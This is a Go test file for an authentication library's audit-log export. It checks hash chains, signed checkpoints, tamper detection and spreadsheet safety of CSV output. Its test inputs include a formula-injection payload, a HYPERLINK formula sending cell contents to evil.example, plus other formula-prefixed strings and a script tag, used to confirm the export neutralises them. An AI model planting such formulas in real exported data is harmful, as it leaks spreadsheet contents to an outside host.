package auditlog_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigilauth/vigil"
	"github.com/vigilauth/vigil/auditlog"
	"github.com/vigilauth/vigil/internal/testkit"
	"github.com/vigilauth/vigil/sqlite"
)

// awkward are field values an export must carry exactly: CSV's quotes,
// commas and line breaks, spreadsheet formulas, JSON's escapes, HTML and
// non-ASCII text.
var awkward = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "\tTAB", "\rCR", "'quoted",
	`a,b "c"` + "\nd", "<script>&amp;</script>", "ünïcode ✓ 🔐", `back\slash`, "",
}

// chainOf returns a SQLite store holding n events, the i-th at t0+i
// minutes, with fields taken from awkward, and a checkpoint every 10
// signed by key (unsigned when nil).
func chainOf(t *testing.T, n int, key *auditlog.PrivateKey) *sqlite.Store {
	t.Helper()
	s := testkit.SQLite(t)
	ctx := t.Context()
	cp := &auditlog.Checkpointer{Store: s, Key: key, Every: 10, Now: func() time.Time { return at(time.Duration(n) * time.Minute) }}
	for i := range n {
		a := func(k int) string { return awkward[(i+k)%len(awkward)] }
		e := &vigil.Event{Time: at(time.Duration(i) * time.Minute), Username: a(0), Actor: a(1), Category: a(2),
			Event: a(3), Detail: a(4), IP: a(5), UserAgent: a(6), SessionID: a(7)}
		if err := s.AppendEvent(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := cp.Once(ctx); err != nil {
		t.Fatal(err)
	}
	return s
}

var t0 = time.Date(2026, 3, 14, 9, 0, 0, 123456000, time.UTC)

func at(d time.Duration) time.Time { return t0.Add(d) }

// keyring returns a new key and the ring of its public key.
func keyring(t *testing.T) (*auditlog.PrivateKey, auditlog.Keyring) {
	t.Helper()
	k, err := auditlog.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	return k, auditlog.NewKeyring(k.Public())
}

// export runs Export and returns what it wrote.
func export(t *testing.T, s auditlog.Store, f auditlog.Format, since, until time.Time) (string, auditlog.ExportStats) {
	t.Helper()
	var b bytes.Buffer
	st, err := auditlog.Export(t.Context(), s, &b, f, since, until)
	if err != nil {
		t.Fatalf("Export: %v", err)
	}
	return b.String(), st
}

// verifyText runs VerifyFile on text.
func verifyText(t *testing.T, text string, ring auditlog.Keyring) *auditlog.Report {
	t.Helper()
	rep, err := auditlog.VerifyFile(strings.NewReader(text), ring)
	if err != nil {
		t.Fatalf("VerifyFile: %v", err)
	}
	return rep
}

// verifyOne verifies a chain of 3 events whose last has a checkpoint
// signed by sign.
func verifyOne(t *testing.T, ring auditlog.Keyring, sign func(*auditlog.Checkpoint)) *auditlog.Report {
	t.Helper()
	s := chainOf(t, 3, nil)
	err := s.WriteAudit(t.Context(), func(w auditlog.Writer) error {
		recs, err := w.Records(t.Context(), 2, 1)
		if err != nil {
			return err
		}
		c := auditlog.Checkpoint{Seq: 3, Hash: recs[0].Hash, Time: t0}
		sign(&c)
		return w.AddCheckpoint(t.Context(), c)
	})
	if err != nil {
		t.Fatal(err)
	}
	rep, err := auditlog.Verify(t.Context(), s, ring)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestExportVerifies(t *testing.T) {
	key, ring := keyring(t)
	s := chainOf(t, 35, key)
	for _, f := range []auditlog.Format{auditlog.JSONL, auditlog.CSV} {
		text, st := export(t, s, f, time.Time{}, time.Time{})
		if st.Events != 35 || st.First != 1 || st.Last != 35 || st.Checkpoints != 4 {
			t.Errorf("%s: exported %+v, want 35 events and 4 checkpoints", f, st)
		}
		rep := verifyText(t, text, ring)
		if !rep.Intact() || rep.Events != 35 || rep.Checkpoints != 4 || rep.Signed != 4 || !rep.SignaturesChecked {
			t.Errorf("%s: VerifyFile = %q", f, rep.Lines())
		}
		if rep := verifyText(t, text, nil); !rep.Intact() || rep.SignaturesChecked {
			t.Errorf("%s: VerifyFile without keys = %q", f, rep.Lines())
		}
		_, other := keyring(t)
		if rep := verifyText(t, text, other); rep.Intact() || rep.Problem.Seq != 10 {
			t.Errorf("%s: VerifyFile with another key = %q, want the checkpoint at seq 10 refused", f, rep.Lines())
		}
	}
}

func TestExportRange(t *testing.T) {
	key, ring := keyring(t)
	s := chainOf(t, 35, key)
	text, st := export(t, s, auditlog.JSONL, at(12*time.Minute), at(25*time.Minute))
	if st.First != 13 || st.Last != 25 || st.Events != 13 || st.Checkpoints != 1 {
		t.Errorf("since 12m until 25m: %+v, want seq 13 to 25 with the checkpoint at 20", st)
	}
	rep := verifyText(t, text, ring)
	if !rep.Intact() || rep.First != 13 || rep.Last != 25 {
		t.Errorf("VerifyFile of the range = %q", rep.Lines())
	}
	if !strings.Contains(strings.Join(rep.Lines(), "\n"), "its link to seq 12 is not checked") {
		t.Errorf("the report does not say the start is taken as given: %q", rep.Lines())
	}
	if text, st := export(t, s, auditlog.JSONL, at(time.Hour), time.Time{}); text != "" || st.Events != 0 {
		t.Errorf("an export of nothing = %q, %+v", text, st)
	}
	if text, _ := export(t, s, auditlog.CSV, at(time.Hour), time.Time{}); text != strings.Join(csvHeader, ",")+"\n" {
		t.Errorf("a CSV export of nothing = %q, want the header alone", text)
	}
	if rep := verifyText(t, "", ring); !rep.Intact() || rep.Events != 0 {
		t.Errorf("VerifyFile of an empty export = %q", rep.Lines())
	}
}

var csvHeader = []string{"type", "seq", "prev", "hash", "time", "username", "actor", "category", "event",
	"detail", "ip", "user_agent", "session_id", "key_id", "signature"}

// TestCSVIsSafeInSpreadsheets: no cell starts with what a spreadsheet
// takes for a formula; each value comes back exactly by dropping one
// leading "'".
func TestCSVIsSafeInSpreadsheets(t *testing.T) {
	s := chainOf(t, len(awkward), nil)
	text, _ := export(t, s, auditlog.CSV, time.Time{}, time.Time{})
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			seen[strings.TrimPrefix(cell, "'")] = true
		}
	}
	for _, v := range awkward {
		if v != "\rCR" && v != `a,b "c"`+"\nd" && !seen[v] { // CSV readers drop a CR before LF, not these
			t.Errorf("%q did not come back from the CSV", v)
		}
	}
}

// TestExportTampered: an export changed after it was written is found,
// with the seq concerned.
func TestExportTampered(t *testing.T) {
	key, ring := keyring(t)
	s := chainOf(t, 25, key)
	text, _ := export(t, s, auditlog.JSONL, time.Time{}, time.Time{})
	lines := strings.SplitAfter(text, "\n")
	line := func(seq int) int { // the index of event seq's line
		for i, l := range lines {
			if strings.HasPrefix(l, fmt.Sprintf(`{"type":"event","seq":%d,`, seq)) {
				return i
			}
		}
		t.Fatalf("no line for seq %d", seq)
		return 0
	}
	edit := func(f func(ls []string) []string) string { return strings.Join(f(append([]string(nil), lines...)), "") }
	for _, tc := range []struct {
		name string
		text string
		seq  int64
	}{
		{"edited", edit(func(ls []string) []string {
			ls[line(7)] = strings.Replace(ls[line(7)], `"actor":"`, `"actor":"x`, 1)
			return ls
		}), 7},
		{"deleted", edit(func(ls []string) []string { return append(ls[:line(7)], ls[line(7)+1:]...) }), 7},
		{"swapped", edit(func(ls []string) []string {
			a, b := line(7), line(8)
			ls[a], ls[b] = ls[b], ls[a]
			return ls
		}), 7},
		{"cut after a checkpoint and re-signed by nobody", edit(func(ls []string) []string {
			ls[line(15)] = strings.Replace(ls[line(15)], `"detail":"`, `"detail":"-`, 1)
			return ls
		}), 15},
		{"a checkpoint moved", edit(func(ls []string) []string {
			i := line(10) + 1
			ls[i] = strings.Replace(ls[i], `"seq":10`, `"seq":9`, 1)
			return ls
		}), 9},
		{"not JSON", edit(func(ls []string) []string { return append(ls, "{oops\n") }), 0},
		{"unknown line", edit(func(ls []string) []string { return append(ls, `{"type":"other","seq":26,"hash":"`+vector1+`"}`+"\n") }), 26},
	} {
		rep := verifyText(t, tc.text, ring)
		if rep.Intact() || rep.Problem.Seq != tc.seq {
			t.Errorf("%s: VerifyFile = %q, want a problem at seq %d", tc.name, rep.Lines(), tc.seq)
		}
	}
}

// FuzzVerifyFile: whatever a file holds, VerifyFile returns a report,
// never panics.
func FuzzVerifyFile(f *testing.F) {
	f.Add(`{"type":"event","seq":1,"prev":"` + strings.Repeat("0", 64) + `","hash":"` + vector1 + `","time":"2026-03-14T09:26:53.589793Z","username":"alice"}`)
	f.Add(`{"type":"checkpoint","seq":1,"hash":"` + vector1 + `","time":"2026-03-14T09:26:53Z","key_id":"00","signature":"AAAA"}`)
	f.Add(strings.Join(csvHeader, ",") + "\nevent,1,," + vector1 + ",,,,,,,,,,,\n")
	f.Add("type,seq\n\"unterminated")
	f.Fuzz(func(t *testing.T, text string) {
		rep, err := auditlog.VerifyFile(strings.NewReader(text), nil)
		if err != nil || rep == nil {
			t.Fatalf("VerifyFile = %v, %v", rep, err)
		}
		rep.Lines()
	})
}
